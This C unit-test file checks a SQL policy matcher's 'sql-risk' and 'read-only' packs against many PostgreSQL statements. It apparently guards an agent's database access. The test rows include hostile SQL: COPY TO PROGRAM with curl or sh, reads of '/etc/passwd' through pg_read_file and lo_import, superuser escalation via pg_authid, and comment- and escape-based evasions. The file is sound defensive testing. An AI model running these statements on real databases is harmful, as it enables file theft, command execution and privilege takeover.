/* SPDX-License-Identifier: Apache-2.0
 * Statements and what the packs say of them, by way of the real facts. */
#include "parsers/sql/facts.h"
#include "ruleset/load/load.h"
#include "ruleset/match/match.h"
#include "ruleset/match/match_priv.h"
#include "ruleset/packs/packs.h"
#include "tests/unit/net/suite.h"

#include <errno.h>
#include <string.h>

static const char sql_risk[] = "sql-risk", read_only[] = "read-only";
static struct policy *risk, *reader, *both;

static struct match_result judge_text(const struct policy *policy, const char *text)
{
	static uint64_t memory[1 << 14];
	const struct sql_job job = { .text = { (const uint8_t *)text, strlen(text) },
		.settings = { SQL_ENC_UTF8, true },
		.limits = &sql_limits_default };
	struct match_command command = { .is_known = true };
	struct match_result result;

	command.sql = sql_facts_of(
			&job, (struct sql_memory){ memory, sizeof(memory) }, &command.facts);
	match_command(policy, &command, &result);
	return result;
}

/* <rule> NULL: it is allowed. */
static void check(const char *text, const struct match_result *r, enum verdict verdict,
		const char *rule, const char *pack)
{
	if (r->verdict != verdict || (r->rule != NULL && rule != NULL && strcmp(r->rule, rule)))
		printf("\n    %d by %s", (int)r->verdict, r->rule == NULL ? "none" : r->rule);
	CHECK_ROW(text, r->verdict == verdict);
	CHECK_ROW(text, (r->rule == NULL) == (rule == NULL));
	CHECK_ROW(text, (r->reason == NULL) == (rule == NULL));
	CHECK_ROW(text, (r->pack == NULL) == (rule == NULL));
	if (rule == NULL || r->rule == NULL)
		return;
	CHECK_ROW(text, strcmp(r->rule, rule) == 0);
	CHECK_ROW(text, strcmp(r->pack, pack) == 0);
}

struct row {
	const char *text;
	const char *rule; /* NULL: it is allowed */
	enum verdict verdict;
};

#define DENY(rule) (rule), VERDICT_DENY
#define HOLD(rule) (rule), VERDICT_HOLD
#define ALLOW      NULL, VERDICT_ALLOW

static void check_rows(
		const struct policy *policy, const char *pack, const struct row *rows, size_t n)
{
	for (size_t i = 0; i < n; i++) {
		const struct match_result r = judge_text(policy, rows[i].text);

		check(rows[i].text, &r, rows[i].verdict, rows[i].rule, pack);
	}
}

static const struct row risk_rows[] = {
	/* what an agent does all day */
	{ "", ALLOW },
	{ "SELECT * FROM orders WHERE id = 7", ALLOW },
	{ "INSERT INTO orders (id) VALUES (1) RETURNING id", ALLOW },
	{ "UPDATE orders SET a = 1 WHERE id = $1", ALLOW },
	{ "DELETE FROM orders WHERE id = 7; COMMIT", ALLOW },
	{ "INSERT INTO t VALUES (1, 'x') ON CONFLICT (id) DO UPDATE SET a = excluded.a", ALLOW },
	{ "SELECT my_function(id) FROM orders", ALLOW },
	{ "SET search_path = app; SET application_name = 'agent'", ALLOW },
	{ "BEGIN; SAVEPOINT a; ROLLBACK TO a; RELEASE a; COMMIT", ALLOW },
	{ "COPY orders TO STDOUT; COPY orders FROM STDIN", ALLOW },
	{ "CREATE TABLE t (id int); CREATE INDEX ON t (id)", ALLOW },
	{ "CREATE VIEW v AS SELECT id FROM orders", ALLOW },
	{ "RESET ROLE; RESET ALL; DISCARD ALL", ALLOW },
	{ "PREPARE p AS SELECT 1; EXECUTE p; DEALLOCATE p", ALLOW },
	{ "COMMENT ON ROLE r IS 'x'", ALLOW },
	{ "SELECT 'DROP TABLE t; DELETE FROM t'", ALLOW },
	{ "SELECT lo_get(1), lo_put(1, 0, 'x')", ALLOW },

	/* ddl-drop */
	{ "DROP TABLE t", DENY("ddl-drop") },
	{ "DROP VIEW IF EXISTS v CASCADE", DENY("ddl-drop") },
	{ "DROP DATABASE d", DENY("ddl-drop") },
	{ "DROP ROLE r", DENY("ddl-drop") },
	{ "DROP EXTENSION e", DENY("ddl-drop") },
	{ "DROP SUBSCRIPTION s; DROP TABLESPACE x", DENY("ddl-drop") },
	{ "DROP USER MAPPING FOR me SERVER s", DENY("ddl-drop") },
	{ "DROP OWNED BY r", DENY("ddl-drop") },
	{ "TRUNCATE t, u", DENY("ddl-drop") },
	{ "SELECT 1; DROP TABLE t", DENY("ddl-drop") },
	{ "UPDATE t SET a = 1; DROP TABLE t", DENY("ddl-drop") }, /* the worst, not the first */

	/* ddl-alter */
	{ "ALTER TABLE t ADD COLUMN a int", HOLD("ddl-alter") },
	{ "ALTER TABLE t DROP COLUMN a", HOLD("ddl-alter") },
	{ "ALTER TABLE t RENAME TO u", HOLD("ddl-alter") },
	{ "ALTER TABLE t SET SCHEMA s", HOLD("ddl-alter") },
	{ "ALTER TABLE t OWNER TO me", HOLD("ddl-alter") }, /* facts do not tell owners */
	{ "ALTER DATABASE d SET work_mem = '1GB'", HOLD("ddl-alter") },

	/* unbounded-write */
	{ "DELETE FROM t", HOLD("unbounded-write") },
	{ "UPDATE t SET a = 1", HOLD("unbounded-write") },
	{ "DELETE FROM t WHERE true", HOLD("unbounded-write") },
	{ "DELETE FROM t WHERE 1 = 1", HOLD("unbounded-write") },
	{ "UPDATE t SET a = 1 WHERE id = id OR false", HOLD("unbounded-write") },
	{ "DELETE FROM t WHERE $1", HOLD("unbounded-write") },
	{ "DELETE FROM t WHERE id IS NULL OR id IS NOT NULL", HOLD("unbounded-write") },
	{ "DELETE FROM t USING u", HOLD("unbounded-write") },
	{ "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", HOLD("unbounded-write") },
	{ "WITH d AS (DELETE FROM t WHERE id = 1) DELETE FROM u", HOLD("unbounded-write") },
	{ "EXPLAIN ANALYZE DELETE FROM t", HOLD("unbounded-write") },
	{ "EXPLAIN (ANALYZE off, analyze 1) DELETE FROM t", HOLD("unbounded-write") },
	{ "EXPLAIN DELETE FROM t", ALLOW },
	{ "EXPLAIN (ANALYZE false) UPDATE t SET a = 1", ALLOW },
	{ "PREPARE p AS DELETE FROM t", HOLD("unbounded-write") },
	{ "COPY (DELETE FROM t RETURNING *) TO STDOUT", HOLD("unbounded-write") },
	{ "MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE", HOLD("unbounded-write") },
	{ "MERGE INTO t USING s ON t.a = s.a WHEN MATCHED THEN DO NOTHING", ALLOW },
	{ "MERGE INTO t USING s ON t.a = s.a WHEN NOT MATCHED THEN INSERT VALUES (1)", ALLOW },
	{ "INSERT INTO t SELECT * FROM t ON CONFLICT (id) DO UPDATE SET a = 1",
			HOLD("unbounded-write") },
	{ "WITH u AS (UPDATE v SET a = 1 WHERE id = 1) INSERT INTO t SELECT * FROM t "
	  "ON CONFLICT (id) DO UPDATE SET a = 1",
			HOLD("unbounded-write") },
	{ "CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM u", HOLD("unbounded-write") },
	{ "CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM u WHERE u.id = NEW.id", ALLOW },

	/* dcl */
	{ "GRANT SELECT ON t TO agent", DENY("dcl") },
	{ "REVOKE ALL ON SCHEMA s FROM PUBLIC", DENY("dcl") },
	{ "GRANT admin TO agent", DENY("dcl") },
	{ "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO agent", DENY("dcl") },
	{ "CREATE ROLE r SUPERUSER", DENY("dcl") },
	{ "CREATE USER u PASSWORD 'x'", DENY("dcl") },
	{ "ALTER USER u SUPERUSER", DENY("dcl") },
	{ "ALTER ROLE r SET role = postgres", DENY("dcl") },
	{ "CREATE POLICY p ON t USING (true)", DENY("dcl") },
	{ "ALTER POLICY p ON t USING (true)", DENY("dcl") },
	{ "REASSIGN OWNED BY a TO b", DENY("dcl") },
	{ "SECURITY LABEL ON TABLE t IS 'x'", DENY("dcl") },
	{ "SET ROLE postgres", DENY("dcl") },
	{ "SET LOCAL ROLE 'postgres'", DENY("dcl") },
	{ "SET \"RoLe\" TO postgres", DENY("dcl") },
	{ "SET SESSION AUTHORIZATION postgres", DENY("dcl") },
	{ "SET SESSION AUTHORIZATION 'default'", DENY("dcl") }, /* a role of that name */
	{ "SET role = 5", DENY("dcl") },
	{ "SET ROLE NONE; SET LOCAL ROLE 'none'; SET role TO DEFAULT", ALLOW },
	{ "SET SESSION AUTHORIZATION DEFAULT", ALLOW },
	{ "SET ROLE NONE; SET ROLE postgres", DENY("dcl") },
	{ "UPDATE pg_settings SET a = set_config('role', 'none', true)", DENY("dcl") },
	{ "UPDATE pg_settings SET setting = 'postgres' WHERE name = 'role'", DENY("dcl") },
	{ "UPDATE pg_catalog.pg_authid SET rolsuper = true WHERE rolname = 'me'", DENY("dcl") },
	{ "COPY pg_authid FROM STDIN", DENY("dcl") },
	{ "MERGE INTO pg_authid USING s ON a = b WHEN MATCHED THEN UPDATE SET c = 1", DENY("dcl") },
	{ "CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM pg_authid WHERE oid = NEW.id",
			DENY("dcl") },
	{ "EXPLAIN UPDATE pg_settings SET setting = 'x' WHERE name = 'role'", ALLOW },
	{ "SELECT * FROM pg_settings; COPY pg_authid TO STDOUT", ALLOW },
	{ "UPDATE app.pg_settings SET a = 1 WHERE id = 1", ALLOW },
	{ "CREATE SCHEMA s AUTHORIZATION me GRANT SELECT ON t TO agent", DENY("dcl") },

	/* server-program, with protocols.md row 20 */
	{ "COPY t FROM PROGRAM 'id'", DENY("server-program") },
	{ "COPY t TO PROGRAM 'curl http://x'", DENY("server-program") },
	{ "COPY (SELECT 1) TO PROGRAM 'sh'", DENY("server-program") },
	{ "COPY t FROM '/etc/passwd'", DENY("server-program") },
	{ "COPY t TO '/tmp/x'", DENY("server-program") },
	{ "SELECT lo_import('/etc/passwd')", DENY("server-program") },
	{ "SELECT lo_export(1, '/tmp/x')", DENY("server-program") },
	{ "SELECT * FROM pg_read_file('/etc/passwd')", DENY("server-program") },
	{ "SELECT pg_catalog.pg_read_binary_file('x')", DENY("server-program") },
	{ "SELECT 1 WHERE EXISTS (SELECT pg_ls_dir('/'))", DENY("server-program") },
	{ "SELECT pg_ls_waldir()", DENY("server-program") },
	{ "SELECT coalesce(NULL, (pg_stat_file('x')).size)", DENY("server-program") },
	{ "UPDATE t SET a = pg_read_file('x') WHERE id = 1", DENY("server-program") },
	{ "SELECT 1 ORDER BY pg_read_file('x')", DENY("server-program") },
	{ "SELECT * FROM dblink('host=x', 'DROP TABLE t') AS d (a int)", DENY("server-program") },
	{ "SELECT public.dblink_exec('c', 'DROP TABLE t')", DENY("server-program") },
	{ "SELECT pg_file_write('x', 'y', true)", DENY("server-program") },
	{ "CREATE VIEW v AS SELECT pg_read_file('/etc/passwd')", DENY("server-program") },
	{ "CREATE TABLE t (a text DEFAULT pg_read_file('x'))", DENY("server-program") },
	{ "PREPARE p AS SELECT pg_read_file($1)", DENY("server-program") },
	{ "EXPLAIN SELECT pg_read_file('x')", DENY("server-program") }, /* planning may run it */
	{ "LOAD '/tmp/x.so'", DENY("server-program") },
	{ "ALTER SYSTEM SET archive_command = 'sh'", DENY("server-program") },
	{ "CREATE EXTENSION dblink", DENY("server-program") },
	{ "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw", DENY("server-program") },
	{ "CREATE USER MAPPING FOR me SERVER s", DENY("server-program") },
	{ "IMPORT FOREIGN SCHEMA s FROM SERVER x INTO public", DENY("server-program") },
	{ "CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p", DENY("server-program") },
	{ "CREATE FUNCTION f() RETURNS int LANGUAGE c AS '/tmp/x.so'", DENY("server-program") },
	{ "DO LANGUAGE plpython3u 'import os'", DENY("server-program") },

	/* opaque, with row 9 */
	{ "DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$", HOLD("opaque") },
	{ "DO 'BEGIN DELETE FROM t; END'", HOLD("opaque") },
	{ "CALL p(1)", HOLD("opaque") },
	{ "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", HOLD("opaque") },
	{ "CREATE FUNCTION f() RETURNS int BEGIN ATOMIC SELECT 1; END", HOLD("opaque") },
	{ "CREATE PROCEDURE p() LANGUAGE plpgsql AS 'BEGIN END'", HOLD("opaque") },
	{ "CREATE FUNCTION f() RETURNS int BEGIN ATOMIC DROP TABLE t; END", DENY("ddl-drop") },
	{ "CREATE OPERATOR ### (FUNCTION = lo_import, RIGHTARG = text)", HOLD("opaque") },
	{ "CREATE AGGREGATE a (text) (SFUNC = f, STYPE = text)", HOLD("opaque") },
	{ "CREATE CAST (int AS text) WITH FUNCTION f(int)", HOLD("opaque") },
	{ "SELECT set_config('role', 'postgres', false)", DENY("dcl") },
	{ "SELECT * FROM set_config('Session_Authorization', 'x', false)", DENY("dcl") },
	{ "UPDATE t SET a = set_config('role', $1, true) WHERE id = 1", DENY("dcl") },
	{ "SELECT set_config($1, 'postgres', false)", HOLD("any-setting") },
	{ "SELECT set_config(VARIADIC ARRAY['role', 'x'])", HOLD("any-setting") },
	{ "SELECT set_config('jit', 'off', true), set_config(lower('ROLE'), 'x', true)",
			HOLD("any-setting") },
	{ "SELECT set_config('TimeZone', 'UTC', false)", ALLOW },
	{ "SELECT query_to_xml('SELECT pg_read_file(''x'')', true, true, '')", HOLD("opaque") },
	{ "SELECT ts_stat('SELECT 1')", HOLD("opaque") },

	/* row 11: what a regular expression would miss */
	{ "dRoP/* */tAbLe t", DENY("ddl-drop") },
	{ "DROP -- a comment\nTABLE t", DENY("ddl-drop") },
	{ "/* /* nested */ ; */ TRUNCATE t", DENY("ddl-drop") },
	{ "/*!50000 SELECT 1 */ DROP TABLE t", DENY("ddl-drop") },
	{ "SELECT E'\\'; --'; DROP TABLE t", DENY("ddl-drop") },
	{ "SELECT $a$ $b$ $a$; DROP TABLE t; SELECT $a$ $a$", DENY("ddl-drop") },
	{ "SELECT PG_READ_FILE('x')", DENY("server-program") },
	{ "SELECT \"pg_read_file\"('x')", DENY("server-program") },
	{ "SELECT U&\"pg\\005fread_file\"('x')", DENY("server-program") },
	{ "SELECT U&\"pg!005fread!005ffile\" UESCAPE '!' ('x')", DENY("server-program") },
	{ "SELECT pg_catalog . /* */ \"pg_read_file\" ('x')", DENY("server-program") },
	{ "DELETE FROM t /* WHERE id = 1 */", HOLD("unbounded-write") },
	{ "DELETE FROM t -- WHERE id = 1", HOLD("unbounded-write") },
	{ "DELETE FROM t WHERE 'id = 1' = 'id = 1'", HOLD("unbounded-write") },
	{ "SELECT \"DROP\" FROM \"TRUNCATE\"", ALLOW },

	/* no facts */
	{ "DROP TABLE", DENY("unparsed") },
	{ "SELECT 'a' -- comment\n'b'", DENY("unparsed") },
	{ "SELECT 'unfinished", DENY("unparsed") },
};

static const struct row read_only_rows[] = {
	{ "", ALLOW },
	{ "SELECT * FROM t WHERE a = $1 ORDER BY 1 LIMIT 5", ALLOW },
	{ "WITH x AS (SELECT 1) SELECT count(*) FROM x", ALLOW },
	{ "VALUES (1)", ALLOW },
	{ "TABLE t", ALLOW },
	{ "SHOW ALL", ALLOW },
	{ "COPY t TO STDOUT", ALLOW },
	{ "EXPLAIN DELETE FROM t", ALLOW },
	{ "EXPLAIN ANALYZE SELECT 1", ALLOW },
	{ "BEGIN; SELECT 1; COMMIT", ALLOW },
	{ "START TRANSACTION READ ONLY; ROLLBACK", ALLOW },
	{ "SAVEPOINT a; ROLLBACK TO a; RELEASE a", ALLOW },
	{ "DECLARE c CURSOR FOR SELECT 1; FETCH ALL FROM c; MOVE c; CLOSE c", ALLOW },
	{ "PREPARE p AS SELECT 1; EXECUTE p(2); DEALLOCATE ALL", ALLOW },
	{ "EXPLAIN ANALYZE EXECUTE p", ALLOW },
	{ "SET application_name = 'x'; SET TIME ZONE 'UTC'; SET DateStyle = ISO", ALLOW },
	{ "SET NAMES 'UTF8'; SET extra_float_digits = 3; SET LOCAL statement_timeout = 5", ALLOW },
	{ "SET search_path = app, public", ALLOW },
	{ "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", ALLOW },
	{ "RESET ALL; DISCARD ALL", ALLOW },

	{ "INSERT INTO t VALUES (1)", DENY("not-read-only") },
	{ "UPDATE t SET a = 1 WHERE id = 1", DENY("not-read-only") },
	{ "SELECT 1; DELETE FROM t WHERE id = 1", DENY("not-read-only") },
	{ "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", DENY("not-read-only") },
	{ "EXPLAIN ANALYZE DELETE FROM t", DENY("not-read-only") },
	{ "SELECT * INTO x FROM t", DENY("not-read-only") },
	{ "SELECT * FROM t FOR UPDATE", DENY("not-read-only") },
	{ "DECLARE c CURSOR FOR SELECT * FROM t FOR SHARE", DENY("not-read-only") },
	{ "SELECT nextval('s')", DENY("not-read-only") },
	{ "EXECUTE p(nextval('s'))", DENY("not-read-only") },
	{ "SELECT my_function()", DENY("not-read-only") },
	{ "SELECT set_config('role', 'x', false)", DENY("not-read-only") },
	{ "SELECT a ### b FROM t", DENY("not-read-only") },
	{ "SELECT lo_unlink(1)", DENY("not-read-only") },
	{ "PREPARE p AS INSERT INTO t VALUES (1)", DENY("not-read-only") },
	{ "CREATE TABLE t (a int)", DENY("not-read-only") },
	{ "CREATE TEMP VIEW v AS SELECT 1", DENY("not-read-only") },
	{ "DROP TABLE t", DENY("not-read-only") },
	{ "GRANT SELECT ON t TO x", DENY("not-read-only") },
	{ "COPY t FROM STDIN", DENY("not-read-only") },
	{ "COPY t TO '/tmp/x'", DENY("not-read-only") },
	{ "COPY t TO PROGRAM 'x'", DENY("not-read-only") },
	{ "COPY (DELETE FROM t RETURNING *) TO STDOUT", DENY("not-read-only") },
	{ "DO 'BEGIN END'", DENY("not-read-only") },
	{ "CALL p()", DENY("not-read-only") },
	{ "VACUUM", DENY("not-read-only") },
	{ "LOCK TABLE t", DENY("not-read-only") },
	{ "NOTIFY c, 'x'", DENY("not-read-only") },
	{ "PREPARE TRANSACTION 'x'", DENY("not-read-only") },
	{ "SET ROLE postgres", DENY("not-read-only") },
	{ "SET \"ROLE\" = postgres", DENY("not-read-only") },
	{ "SET SESSION AUTHORIZATION x", DENY("not-read-only") },
	{ "SET search_path = evil, pg_catalog", DENY("not-read-only") },
	{ "SET standard_conforming_strings = off", DENY("not-read-only") },
	{ "SET default_transaction_read_only = off", DENY("not-read-only") },
	{ "ALTER SYSTEM SET work_mem = 1", DENY("not-read-only") },
	{ "SELEC 1", DENY("unparsed") },
};

static void test_sql_risk(void)
{
	check_rows(risk, sql_risk, risk_rows, N_OF(risk_rows));
}

static void test_read_only(void)
{
	check_rows(reader, read_only, read_only_rows, N_OF(read_only_rows));
}

/* The worst verdict of both, and the rule that comes first among those that gave it. */
static void test_both(void)
{
	static const struct row of_risk[] = { { "DROP TABLE t", DENY("ddl-drop") },
		{ "SELEC 1", DENY("unparsed") } };
	static const struct row of_reader[] = { { "DELETE FROM t", DENY("not-read-only") },
		{ "ALTER TABLE t ADD a int", DENY("not-read-only") } };
	const struct match_result r = judge_text(both, "SELECT 1");

	check_rows(both, sql_risk, of_risk, N_OF(of_risk));
	check_rows(both, read_only, of_reader, N_OF(of_reader));
	check("SELECT 1", &r, VERDICT_ALLOW, NULL, NULL);
}

/* Why there are no facts -> SQLSTATE. */
static void test_unparsed(void)
{
	static const char *const codes[SQL_RC_MAX] = { [SQL_OK] = "0A000",
		[SQL_SYNTAX] = "42601",
		[SQL_UNSAFE_ENCODING] = "0A000",
		[SQL_TOO_LARGE_INLINE] = "54000",
		[SQL_TOO_LARGE] = "54000",
		[SQL_TOO_DEEP] = "54000",
		[SQL_TOO_COMPLEX] = "54000",
		[SQL_NO_ROOM] = "54000",
		[SQL_SPLIT_STRING] = "0A000",
		[SQL_DISAGREE] = "0A000" };

	for (unsigned int rc = 0; rc <= SQL_RC_MAX; rc++) { /* SQL_OK without facts, and no such */
		const struct match_command c = { .sql = (enum sql_rc)rc, .is_known = true };
		struct match_result r;

		match_command(risk, &c, &r);
		check("no facts", &r, VERDICT_DENY, "unparsed", sql_risk);
		CU_ASSERT_STRING_EQUAL(r.code, rc < SQL_RC_MAX ? codes[rc] : "0A000");
		CU_ASSERT_PTR_NOT_NULL(r.hint);
		match_command(reader, &c, &r);
		check("no facts", &r, VERDICT_DENY, "unparsed", read_only);
	}
}

/* Facts that are there do not count while the text is not certain. */
static void test_uncertain(void)
{
	static uint64_t memory[1 << 10];
	static const char text[] = "SELECT 1";
	const struct sql_job job = { .text = { (const uint8_t *)text, strlen(text) },
		.settings = { SQL_ENC_UTF8, true },
		.limits = &sql_limits_default };
	struct match_command c = { .is_known = true };
	struct match_result r;

	c.sql = sql_facts_of(&job, (struct sql_memory){ memory, sizeof(memory) }, &c.facts);
	match_command(risk, &c, &r);
	check("certain", &r, VERDICT_ALLOW, NULL, NULL);
	c.is_known = false;
	match_command(risk, &c, &r);
	check("not certain", &r, VERDICT_DENY, "unparsed", sql_risk);
	c.function_oid = 954;
	match_command(risk, &c, &r);
	check("function, not certain", &r, VERDICT_DENY, "unparsed", sql_risk);
}

/* Without a policy, and with one of no packs, all is allowed. */
static void test_no_policy(void)
{
	const struct match_command unknown = { .sql = SQL_SYNTAX };
	struct policy *none = NULL;
	struct match_result r;
	size_t bad;

	match_command(NULL, &unknown, &r);
	check("no policy", &r, VERDICT_ALLOW, NULL, NULL);
	CU_ASSERT_EQUAL(policy_new(NULL, 0, &none, &bad), 0);
	match_command(none, &unknown, &r);
	check("no packs", &r, VERDICT_ALLOW, NULL, NULL);
	policy_free(&none);
	r = judge_text(NULL, "DROP TABLE t");
	check("no policy", &r, VERDICT_ALLOW, NULL, NULL);
}

static void test_names(void)
{
	static const char *const names[] = { "sql-risk", "sql-risks" };
	struct policy *p = NULL;
	size_t bad = 99, n = 0;

	CU_ASSERT_EQUAL(policy_new(names, 2, &p, &bad), -ENOENT);
	CU_ASSERT_EQUAL(bad, 1);
	CU_ASSERT_PTR_NULL(p);
	for (; policy_pack_names[n] != NULL; n++) {
		CU_ASSERT_EQUAL(policy_new(&policy_pack_names[n], 1, &p, &bad), 0);
		policy_free(&p);
		CU_ASSERT_PTR_NULL(p);
	}
	CU_ASSERT_EQUAL(n, 4);
}

/* What libpq calls by OID, and whether it writes; the OIDs are those of the server's catalogue. */
static const struct {
	const char *name;
	enum lo_function is;
} large_objects[] = { { "lo_open", LO_READS }, { "lo_close", LO_READS }, { "loread", LO_READS },
	{ "lowrite", LO_WRITES }, { "lo_lseek", LO_READS }, { "lo_lseek64", LO_READS },
	{ "lo_creat", LO_WRITES }, { "lo_create", LO_WRITES }, { "lo_tell", LO_READS },
	{ "lo_tell64", LO_READS }, { "lo_truncate", LO_WRITES }, { "lo_truncate64", LO_WRITES },
	{ "lo_unlink", LO_WRITES } };

static enum lo_function wanted_of(const char *name)
{
	for (size_t i = 0; i < N_OF(large_objects); i++) {
		if (strcmp(name, large_objects[i].name) == 0)
			return large_objects[i].is;
	}
	return LO_NONE;
}

static void test_function_oids(void)
{
	FILE *bki = fopen("/usr/share/postgresql/15/postgres.bki", "r");
	static char line[1 << 16], name[64];
	bool is_proc = false;
	unsigned int oid, n = 0;

	CU_ASSERT_PTR_NOT_NULL_FATAL(bki);
	while (fgets(line, sizeof(line), bki) != NULL) {
		if (strncmp(line, "create ", 7) == 0)
			is_proc = strncmp(line, "create pg_proc ", 15) == 0;
		if (!is_proc || sscanf(line, "insert ( %u %63s ", &oid, name) != 2)
			continue;
		CHECK_ROW(name, match_lo_function(oid) == wanted_of(name));
		n += match_lo_function(oid) != LO_NONE;
	}
	fclose(bki);
	CU_ASSERT_EQUAL(n, N_OF(large_objects));
}

static void test_function_calls(void)
{
	static const uint32_t reads[] = { 952, 953, 954, 956, 958, 3170, 3171 };
	static const uint32_t writes[] = { 715, 955, 957, 964, 1004, 3172 };
	static const uint32_t others[] = { 1, 764, 765, 767, 2624, 2077, UINT32_MAX };
	struct match_command c = { .is_known = true };
	struct match_result r;

	for (size_t i = 0; i < N_OF(reads); i++) {
		c.function_oid = reads[i];
		match_command(both, &c, &r);
		check("reads", &r, VERDICT_ALLOW, NULL, NULL);
	}
	for (size_t i = 0; i < N_OF(writes); i++) {
		c.function_oid = writes[i];
		match_command(risk, &c, &r);
		check("writes", &r, VERDICT_ALLOW, NULL, NULL);
		match_command(reader, &c, &r);
		check("writes", &r, VERDICT_DENY, "not-read-only", read_only);
	}
	for (size_t i = 0; i < N_OF(others); i++) {
		c.function_oid = others[i];
		match_command(both, &c, &r);
		check("others", &r, VERDICT_DENY, "unparsed", sql_risk);
		match_command(reader, &c, &r);
		check("others", &r, VERDICT_DENY, "unparsed", read_only);
	}
}

/* As a protocol's error needs it: one line, no rule's name, a code only where it is a denial. */
static void test_words(void)
{
	for (size_t i = 0; i < N_OF(risk_rows); i++) {
		const struct match_result r = judge_text(risk, risk_rows[i].text);

		if (r.rule == NULL)
			continue;
		CHECK_ROW(r.rule, strchr(r.reason, '\n') == NULL && strlen(r.reason) < 160);
		CHECK_ROW(r.rule, strstr(r.reason, r.rule) == NULL);
		CHECK_ROW(r.rule, r.hint != NULL && strlen(r.hint) < 160);
		CHECK_ROW(r.rule, r.verdict == VERDICT_DENY || r.code == NULL);
		CHECK_ROW(r.rule, r.code == NULL || strlen(r.code) == 5);
	}
}

int main(void)
{
	static const struct suite_test tests[] = {
		{ "pack sql-risk", test_sql_risk },
		{ "pack read-only", test_read_only },
		{ "both packs", test_both },
		{ "no facts", test_unparsed },
		{ "a text that is not certain", test_uncertain },
		{ "no policy", test_no_policy },
		{ "names of packs", test_names },
		{ "large objects by OID, as the server has them", test_function_oids },
		{ "function calls", test_function_calls },
		{ "reasons and hints", test_words },
	};
	static const char *const names[] = { sql_risk, read_only };
	size_t bad;
	int rc;

	if (sql_facts_check() != 0 || policy_new(names, 1, &risk, &bad) != 0 ||
			policy_new(names + 1, 1, &reader, &bad) != 0 ||
			policy_new(names, 2, &both, &bad) != 0)
		return EXIT_FAILURE;
	rc = suite_run("match", tests, N_OF(tests));
	policy_free(&risk);
	policy_free(&reader);
	policy_free(&both);
	return rc;
}
